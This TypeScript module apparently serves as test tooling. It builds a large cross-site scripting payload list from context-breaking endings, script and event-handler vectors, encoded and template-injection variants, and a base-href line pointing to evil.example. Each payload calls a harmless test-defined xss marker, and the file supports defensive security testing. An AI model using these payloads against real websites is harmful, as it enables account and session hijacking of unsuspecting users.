/** Closings of the contexts that a text may be in. */
const endings = ['', '">', "'>", '</script>', '</title>', '</style>', '-->', '</textarea>', ']]>', '\\"}]'];

/** Code that runs once in markup; each calls `xss`, which tests define in the page. */
const vectors = [
  '<script>xss(1)</script>',
  '<ScRiPt>xss(1)</sCrIpT>',
  '<script/x>xss(1)</script>',
  '<img src=x onerror=xss(1)>',
  '<img src=x:x onerror="xss(1)">',
  '<image src=x onerror=xss(1)>',
  '<svg onload=xss(1)>',
  '<svg/onload=xss(1)>',
  '<svg><script>xss(1)</script>',
  '<svg><animate onbegin=xss(1) attributeName=x>',
  '<svg><set onbegin=xss(1) attributeName=x>',
  '<svg><a xlink:href="javascript:xss(1)">x</a>',
  '<math><mtext></p><img src=x onerror=xss(1)>',
  '<body onload=xss(1)>',
  '<body onpageshow=xss(1)>',
  '<iframe srcdoc="<script>parent.xss(1)</script>">',
  '<iframe src="javascript:parent.xss(1)">',
  '<iframe onload=xss(1)>',
  '<object data="javascript:xss(1)">',
  '<embed src="javascript:xss(1)">',
  '<a href="javascript:xss(1)" autofocus onfocus=xss(1)>x</a>',
  '<input autofocus onfocus=xss(1)>',
  '<select autofocus onfocus=xss(1)>',
  '<video><source onerror=xss(1)>',
  '<audio src=x onerror=xss(1)>',
  '<details open ontoggle=xss(1)>',
  '<marquee onstart=xss(1)>',
  '<style>@-webkit-keyframes x{}</style><p style="animation-name:x" onanimationstart=xss(1)>',
  '<link rel=stylesheet href="data:text/css,*{}" onload=xss(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:xss(1)">',
  '<base href="//evil.example/">',
  '<form action="javascript:xss(1)"><button autofocus>',
  '<template><img src=x onerror=xss(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=xss(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=xss(1)>">',
];

/** Code that needs no markup: a script, an attribute, a template, a link, a decoder. */
const bare = [
  '" autofocus onfocus=xss(1) x="',
  "' autofocus onfocus=xss(1) x='",
  '`-xss(1)-`',
  "'-xss(1)-'",
  '"-xss(1)-"',
  "\\'-xss(1)//",
  '${xss(1)}',
  '{{constructor.constructor("xss(1)")()}}',
  '#{xss(1)}',
  '<%= xss(1) %>',
  'javascript:xss(1)',
  'JaVaScRiPt:xss(1)',
  'java\tscript:xss(1)',
  'data:text/html,<script>parent.xss(1)</script>',
  '&lt;img src=x onerror=xss(1)&gt;',
  '&#60;img src=x onerror=xss(1)&#62;',
  '\\u003cimg src=x onerror=xss(1)\\u003e',
  '%3Cimg src=x onerror=xss(1)%3E',
  '\uff1cimg src=x onerror=xss(1)\uff1e',
  '[x](javascript:xss(1))',
  '![x](x"onerror="xss(1))',
  '<<img src=x onerror=xss(1)//',
  '<img src=x onerror=xss(1) ',
  '</div></main></body></html><img src=x onerror=xss(1)>',
  '\u2028xss(1)\u2029',
  '{"__proto__":{"innerHTML":"<img src=x onerror=xss(1)>"}}',
  '<!--><img src=x onerror=xss(1)>-->',
  '<![CDATA[><img src=x onerror=xss(1)>',
];

/** For short fields, such as a name. */
export const shortPayloads = [
  '<svg/onload=xss(1)>',
  '"><svg/onload=xss(1)>',
  "'><svg/onload=xss(1)>",
  '<script>xss(1)</script>',
  '<img src onerror=xss(1)>',
  '" onfocus=xss(1) autofocus="',
  '</script><svg onload=xss(1)>',
  '</title><svg onload=xss(1)>',
  '${xss(1)}{{xss(1)}}',
  'javascript:xss(1)',
];

/** Every vector after every ending, and the bare ones. */
export const payloads = [...endings.flatMap((ending) => vectors.map((vector) => ending + vector)), ...bare];

/** Joined into texts of at most `max` characters, a line each. */
export function packed(each: readonly string[], max: number): string[] {
  const texts: string[] = [];
  for (const payload of each) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length + 1 <= max) {
      texts[texts.length - 1] = `${last}\n${payload}`;
    } else texts.push(payload);
  }
  return texts;
}
